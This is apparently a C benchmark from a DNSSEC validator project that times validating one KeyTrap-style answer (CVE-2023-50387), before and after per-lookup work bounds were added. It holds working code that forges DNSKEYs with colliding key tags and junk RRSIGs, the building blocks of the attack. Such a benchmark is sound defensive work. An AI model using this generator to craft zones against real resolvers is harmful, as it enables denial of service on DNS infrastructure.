/* SPDX-License-Identifier: Apache-2.0 */
/*
 * keytrap.c - dance-bench-keytrap [KEYS [SIGS [ROUNDS]]]: the worst-case CPU
 * of validating one KeyTrap-style answer (CVE-2023-50387): a zone that
 * publishes KEYS extra DNSKEYs sharing the key tag of its real key and
 * puts SIGS junk RRSIGs with that tag before each real one, so a validator
 * that tries every signature with every key with a matching tag does about
 * (KEYS + 1) * (SIGS + 1) RSA verifications for one RRset.
 *
 * It runs what one lookup in that zone costs the validator: the DNSKEY set
 * against its DS, then the answer RRset against the zone's keys, and prints
 * the median CPU time of ROUNDS runs. It builds against the validator API
 * before issue 9 (time_t argument, no work bound) and after (a
 * dance_val_ctx with the per-lookup bounds), so both figures come from the
 * same source: see bench/README.md.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <ldns/ldns.h>

#include "dance_validate.h"

#define NOW 1800000000

/* cpu_ms - process CPU time in milliseconds. */
static double cpu_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/* colliding - nkeys DNSKEYs with real's key tag and other RSA moduli (two
 * bytes of equal parity moved by one keep the checksum), pushed to out. */
static int colliding(const ldns_rr *real, int nkeys, ldns_rr_list *out)
{
    uint16_t tag = ldns_calc_keytag(real);
    int made = 0;

    for (size_t pos = 8; made < nkeys; pos += 2) {
        ldns_rr *k = ldns_rr_clone(real);
        ldns_rdf *pub = ldns_rr_rdf(k, 3);
        uint8_t *d = ldns_rdf_data(pub);

        if (pos + 2 >= ldns_rdf_size(pub) - 4) {
            ldns_rr_free(k);
            break;
        }
        if (d[pos] < 255 && d[pos + 2] > 0) {
            d[pos]++;
            d[pos + 2]--;
            if (ldns_calc_keytag(k) == tag) {
                ldns_rr_list_push_rr(out, k);
                made++;
                continue;
            }
        }
        ldns_rr_free(k);
    }
    return made;
}

/* trapped_sigs - nsigs junk copies of the signature over set, then the
 * real one. */
static ldns_rr_list *trapped_sigs(ldns_rr_list *set, ldns_key *key, int nsigs)
{
    ldns_key_list *kl = ldns_key_list_new();
    ldns_rr_list *real, *out = ldns_rr_list_new();

    ldns_key_list_push_key(kl, key);
    real = ldns_sign_public(set, kl);
    ldns_key_list_set_key_count(kl, 0);
    ldns_key_list_free(kl);
    for (int j = 0; j < nsigs; j++) {
        ldns_rr *junk = ldns_rr_clone(ldns_rr_list_rr(real, 0));
        ldns_rdf *sig = ldns_rr_rdf(junk, 8);

        ldns_rdf_data(sig)[ldns_rdf_size(sig) / 2] ^= (uint8_t)(j + 1);
        ldns_rdf_data(sig)[ldns_rdf_size(sig) / 2 + 1] ^= (uint8_t)(j >> 8);
        ldns_rr_list_push_rr(out, junk);
    }
    ldns_rr_list_push_rr_list(out, real);
    ldns_rr_list_free(real);
    return out;
}

/* one_lookup - the validator's work for one answer in the trapped zone;
 * returns 1 if the answer validated. *checks: verifications (new API). */
static int one_lookup(ldns_rr_list *dnskeys, ldns_rr_list *dsigs,
                      ldns_rr_list *trust, ldns_rr_list *set,
                      ldns_rr_list *sigs, ldns_rdf *zone, unsigned *checks)
{
    ldns_rr_list *keys = NULL;
    uint32_t ttl = 0;
    uint8_t labels = 0;
    char why[256];
    int ok = 0;
#ifdef DANCE_VAL_MAX_SIG_CHECKS
    dance_val_ctx *vc =
        dance_val_ctx_new(NOW, DANCE_VAL_DEFAULT_CLOCK_SKEW,
                          DANCE_VAL_MAX_SIG_CHECKS, DANCE_VAL_MAX_NSEC3_HASHES);
#define VAL_TIME vc
#else
#define VAL_TIME NOW
#endif

    if (dance_val_keyset(dnskeys, dsigs, zone, trust, VAL_TIME, &keys, &ttl,
                         why, sizeof(why)) == DANCE_VAL_KEYS_SECURE)
        ok = dance_val_rrset(set, sigs, zone, keys, VAL_TIME, &ttl, &labels,
                             why, sizeof(why));
#ifdef DANCE_VAL_MAX_SIG_CHECKS
    *checks = dance_val_ctx_sig_checks(vc);
    dance_val_ctx_free(vc);
#else
    *checks = 0;
#endif
    ldns_rr_list_deep_free(keys);
    return ok;
}

/* cmp_double - qsort order. */
static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;

    return x < y ? -1 : x > y;
}

int main(int argc, char **argv)
{
    int nkeys = argc > 1 ? atoi(argv[1]) : 100;
    int nsigs = argc > 2 ? atoi(argv[2]) : 100;
    int rounds = argc > 3 ? atoi(argv[3]) : 5;
    ldns_rdf *zone = ldns_dname_new_frm_str("evil.example.");
    ldns_key *key = ldns_key_new_frm_algorithm(LDNS_SIGN_RSASHA256, 2048);
    ldns_rr_list *dnskeys = ldns_rr_list_new(), *trust = ldns_rr_list_new();
    ldns_rr_list *set = ldns_rr_list_new(), *dsigs, *sigs;
    ldns_rr *real, *a = NULL;
    double *ms;
    unsigned checks = 0;
    int ok = 0, made;

    if (zone == NULL || key == NULL || rounds < 1) {
        fprintf(stderr, "usage: %s [KEYS [SIGS [ROUNDS]]]\n", argv[0]);
        return 2;
    }
    ldns_key_set_pubkey_owner(key, ldns_rdf_clone(zone));
    ldns_key_set_flags(key, LDNS_KEY_ZONE_KEY | LDNS_KEY_SEP_KEY);
    ldns_key_set_inception(key, NOW - 86400);
    ldns_key_set_expiration(key, NOW + 86400);
    real = ldns_key2rr(key);
    ldns_key_set_keytag(key, ldns_calc_keytag(real));
    ldns_rr_list_push_rr(trust, ldns_key_rr2ds(real, LDNS_SHA256));
    made = colliding(real, nkeys, dnskeys);
    ldns_rr_list_push_rr(dnskeys, real); /* the real key last */
    ldns_rr_new_frm_str(&a, "www.evil.example. 300 IN A 192.0.2.1", 300, NULL,
                        NULL);
    ldns_rr_list_push_rr(set, a);
    dsigs = trapped_sigs(dnskeys, key, nsigs);
    sigs = trapped_sigs(set, key, nsigs);
    ms = calloc((size_t)rounds, sizeof(*ms));
    for (int r = 0; r < rounds; r++) {
        double t0 = cpu_ms();

        ok = one_lookup(dnskeys, dsigs, trust, set, sigs, zone, &checks);
        ms[r] = cpu_ms() - t0;
    }
    qsort(ms, (size_t)rounds, sizeof(*ms), cmp_double);
    printf("keytrap: %d colliding keys, %d junk RRSIGs per RRset: "
           "%s, %u verifications (0: not counted), median CPU %.1f ms "
           "(min %.1f, max %.1f, %d rounds)\n",
           made, nsigs, ok ? "validated" : "not validated", checks,
           ms[rounds / 2], ms[0], ms[rounds - 1], rounds);
    free(ms);
    ldns_rr_list_deep_free(dnskeys);
    ldns_rr_list_deep_free(trust);
    ldns_rr_list_deep_free(set);
    ldns_rr_list_deep_free(dsigs);
    ldns_rr_list_deep_free(sigs);
    ldns_key_deep_free(key);
    ldns_rdf_deep_free(zone);
    return 0;
}
